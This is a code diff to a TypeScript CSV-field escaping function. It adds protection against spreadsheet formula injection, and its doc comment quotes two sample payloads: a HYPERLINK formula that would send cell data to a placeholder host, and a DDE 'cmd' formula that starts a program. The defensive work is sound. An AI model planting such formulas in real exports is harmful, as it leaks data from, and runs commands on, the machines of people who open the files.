@@ -1,9 +1,25 @@
-import { outcomeOf, type PlanDoc } from './doc.js';
+import { outcomeOf } from './doc.js';
+import type { PlanDoc } from './plan-schema.js';
 
-/** One CSV field (RFC 4180): quoted when it holds a comma, a quote, a line break or edge spaces; quotes doubled. */
+/**
+ * What a spreadsheet would evaluate at the start of a cell (OWASP, "CSV Injection"): the formula starts `=`, `+`, `-`,
+ * `@` (and their full-width forms, which some Excel versions read as the same), a tab and a carriage return. A file
+ * named `=HYPERLINK("http://x/?"&A1)` or `=cmd|' /C calc'!A0` must reach the sheet as text.
+ */
+const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
+
+/**
+ * One CSV field (RFC 4180): quoted when it holds a comma, a quote, a line break, a semicolon or a tab (the other
+ * separators spreadsheets guess, so `x;=1+2` cannot become a second, evaluated cell) or edge spaces; quotes doubled.
+ * A text that a spreadsheet would evaluate gets a leading `'` (which makes it text) and is quoted. Numbers are
+ * numbers: a negative one is written as it is.
+ */
 export function csvField(v: unknown): string {
-  const s = v === null || v === undefined ? '' : String(v);
-  return /[",\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
+  if (v === null || v === undefined) return '';
+  if (typeof v === 'number' || typeof v === 'boolean') return String(v);
+  const s = String(v);
+  if (FORMULA_START.test(s)) return `"'${s.replace(/"/g, '""')}"`;
+  return /[",;\t\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
 }
 
 export const CSV_COLUMNS = [
